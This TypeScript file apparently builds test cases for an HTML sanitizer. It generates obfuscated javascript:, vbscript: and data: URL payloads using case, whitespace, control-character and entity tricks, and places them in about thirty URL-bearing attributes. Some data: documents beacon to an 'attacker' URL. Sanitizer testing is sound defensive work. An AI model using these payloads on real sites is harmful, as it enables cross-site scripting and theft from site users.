import { casesOf } from '../article-page';
import { beaconUrl, canaryCall, canaryScript, imageUrl } from '../canary';
import type { PayloadSpec } from '../types';

/**
 * Script-bearing URLs (`javascript:`, `vbscript:`, `data:` documents) in every attribute that takes a
 * URL, each written with every family of obfuscation browsers undo before they read the scheme:
 * letter case, whitespace and control characters the URL parser strips, and character references
 * (decimal, hex, zero-padded, without semicolons, named). One case per attribute × trick group.
 */

type UrlTricks = (id: string) => string[];

/** Encodes every character of `text` as a character reference, in the style `style` names. */
function referenced(text: string, style: 'decimal' | 'hex-bare' | 'zero-padded'): string {
  return [...text].map((c) => {
    const code = c.charCodeAt(0);
    if (style === 'decimal') return `&#${code};`;
    if (style === 'hex-bare') return `&#x${code.toString(16)}`;
    return `&#${String(code).padStart(7, '0')};`;
  }).join('');
}

/** A data: document that both runs the canary and requests the attacker (it cannot reach the top frame). */
function dataDocument(id: string): string {
  return `<script>${canaryScript(id)}</script><img src=${beaconUrl(id, 'data-doc')}>`;
}

const TRICK_GROUPS: ReadonlyArray<readonly [string, string, UrlTricks]> = [
  ['case', 'javascript: in plain, mixed and upper case', (id) => [
    `javascript:${canaryCall(id)}`,
    `JaVaScRiPt:${canaryCall(id)}`,
    `JAVASCRIPT:/*x*/${canaryCall(id)}`,
  ]],
  ['whitespace', 'javascript: with stripped whitespace and control characters', (id) => [
    `&#32;&#1;&#31;javascript:${canaryCall(id)}`,
    `java&#x09;script:${canaryCall(id)}`,
    `java&#x0A;scr&#x0D;ipt:${canaryCall(id)}`,
    `javascript&#x09;:${canaryCall(id)}`,
    `javascript://%0A${canaryCall(id)}`,
  ]],
  ['entities', 'javascript: hidden behind character references', (id) => [
    `${referenced('javascript:', 'decimal')}${canaryCall(id)}`,
    `${referenced('javascript:', 'hex-bare')}${canaryCall(id)}`,
    `${referenced('javascript:', 'zero-padded')}${canaryCall(id)}`,
    `ja&Tab;va&NewLine;script&colon;${canaryCall(id)}`,
  ]],
  ['other-schemes', 'vbscript: and script-bearing data: URLs', (id) => [
    `vbscript:msgbox("${id}")`.replace(/"/g, '&quot;'),
    `data:text/html,${dataDocument(id)}`,
    `data:text/html;base64,${btoa(dataDocument(id))}`,
    `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${canaryCall(id)}"/>`)}`,
    `DATA:text/html,${dataDocument(id)}`,
  ]],
];

/** Every attribute that takes a URL, on the element that reads it; `u` is the attribute value. */
const CARRIERS: ReadonlyArray<readonly [string, (u: string, id: string) => string]> = [
  ['a-href', (u) => `<a href="${u}">Read the council’s full report</a>`],
  ['area-href', (u, id) => `<img src="${imageUrl('map.png')}" usemap="#m-${id}" alt="Map"><map name="m-${id}"><area shape="rect" coords="0,0,800,450" href="${u}" alt="Quay"></map>`],
  ['img-src', (u) => `<img src="${u}" alt="Chart">`],
  ['img-srcset', (u) => `<img src="${imageUrl('chart.png')}" srcset="${imageUrl('chart-1x.png')} 1x, ${u} 2x" alt="Chart">`],
  ['picture-srcset', (u) => `<picture><source srcset="${u}"><img src="${imageUrl('pic.jpg')}" alt="Picture"></picture>`],
  ['img-legacy', (u) => `<img src="${imageUrl('legacy.jpg')}" lowsrc="${u}" dynsrc="${u}" longdesc="${u}" alt="Legacy">`],
  ['video-poster', (u) => `<video poster="${u}" controls></video>`],
  ['video-src', (u) => `<video src="${u}" autoplay muted></video>`],
  ['audio-src', (u) => `<audio src="${u}" autoplay controls></audio>`],
  ['source-src', (u) => `<video autoplay muted><source src="${u}"></video>`],
  ['track-src', (u) => `<video><track default kind="captions" src="${u}"></video>`],
  ['cite', (u) => `<blockquote cite="${u}"><p>We were lucky.</p></blockquote><q cite="${u}">twice</q><del cite="${u}">old</del><ins cite="${u}">new</ins>`],
  ['iframe-src', (u) => `<iframe src="${u}"></iframe>`],
  ['frame-src', (u) => `<frameset><frame src="${u}"></frameset>`],
  ['embed-src', (u) => `<embed src="${u}">`],
  ['object-data', (u) => `<object data="${u}"></object>`],
  ['form-action', (u) => `<form action="${u}"><button>Subscribe</button></form>`],
  ['formaction', (u) => `<form><button formaction="${u}">Subscribe</button><input type="submit" formaction="${u}"></form>`],
  ['input-image-src', (u) => `<input type="image" src="${u}" alt="Go">`],
  ['math-href', (u) => `<math href="${u}"><mi>x</mi></math>`],
  ['math-xlink-href', (u) => `<math><maction actiontype="statusline" xlink:href="${u}"><mi>x</mi><mtext>tip</mtext></maction></math>`],
  ['svg-a-href', (u) => `<svg width="200" height="30"><a href="${u}"><text x="0" y="20">Read more</text></a></svg>`],
  ['svg-a-xlink-href', (u) => `<svg width="200" height="30"><a xlink:href="${u}"><text x="0" y="20">Read more</text></a></svg>`],
  ['svg-image-href', (u) => `<svg><image href="${u}" width="10" height="10"/></svg>`],
  ['svg-use-href', (u) => `<svg><use href="${u}#x"/></svg>`],
  ['link-href', (u) => `<link rel="stylesheet" href="${u}">`],
  ['base-href', (u) => `<base href="${u}">`],
  ['table-background', (u) => `<table background="${u}"><tr><td background="${u}">Figures</td></tr></table>`],
  ['a-ping', (u) => `<a href="#notes" ping="${u}">Notes</a>`],
  ['meta-refresh', (u) => `<meta http-equiv="refresh" content="0;url=${u}">`],
];

function specs(): PayloadSpec[] {
  const list: PayloadSpec[] = [];
  for (const [carrier, build] of CARRIERS) {
    for (const [group, vector, tricks] of TRICK_GROUPS) {
      const id = `url-${carrier}-${group}`;
      list.push({ id, vector: `${vector} in ${carrier}`, body: tricks(id).map((u) => build(u, id)).join('\n') });
    }
  }
  return list;
}

export const urlSchemeCases = casesOf('url-scheme', specs());
